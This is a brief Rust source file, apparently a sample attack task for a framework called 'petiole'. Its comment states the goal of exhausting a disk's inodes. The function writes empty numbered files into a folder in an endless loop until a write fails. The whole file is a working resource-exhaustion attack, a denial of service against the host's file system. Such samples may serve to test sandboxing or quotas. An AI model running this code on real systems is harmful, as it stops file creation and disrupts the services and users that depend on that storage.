//! Attack: use up the disk's inodes: files without a byte in them.

#[petiole::task]
fn attack(folder: String) -> Result<(), petiole::Error> {
    for number in 0_u64.. {
        std::fs::write(format!("{folder}/{number}"), "")?;
    }
    Ok(())
}
